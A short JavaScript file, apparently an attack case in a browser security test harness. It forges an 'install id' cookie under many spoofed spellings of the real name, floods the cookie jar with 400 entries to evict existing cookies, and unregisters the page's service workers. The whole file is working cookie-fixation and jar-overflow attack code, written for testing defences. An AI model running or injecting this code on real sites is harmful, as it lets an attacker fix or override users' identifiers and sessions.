// Puts an install id of its own in place, in every spelling that a browser might take for the real one.
attack(async ({ name, id }) => {
  const attributes = ['', '; Secure', '; Secure; Path=/', '; Path=/; Secure; SameSite=Strict; Max-Age=999999']
  const names = [
    name,
    name.toLowerCase(),
    name.toUpperCase(),
    name.replace('Http', 'http'),
    ` ${name}`,
    `${name} `,
    `\t${name}`,
    `=${name}`,
  ]
  const write = (cookie) => Reflect.set(document, 'cookie', cookie)
  const plant = async () => {
    for (const spelled of names) {
      for (const more of attributes) await lib.outcome(() => write(`${spelled}=${id}${more}`))
      const set = { name: spelled, value: id, path: '/', sameSite: 'strict' }
      await lib.outcome(() => globalThis.cookieStore?.set(set))
      await lib.outcome(() => globalThis.cookieStore?.set({ ...set, name: '', value: `${spelled}=${id}` }))
    }
  }
  const flood = (life) => {
    for (let count = 0; count < 400; count += 1) write(`jar${count}=1; Path=/; Secure; Max-Age=${life}`)
  }
  await plant()
  flood(600)
  const held = document.cookie.split(';').length
  flood(0)
  await plant()
  for (const registration of await navigator.serviceWorker.getRegistrations())
    await registration.update().catch(() => undefined)
  for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister()
  return { held, cookie: document.cookie }
})
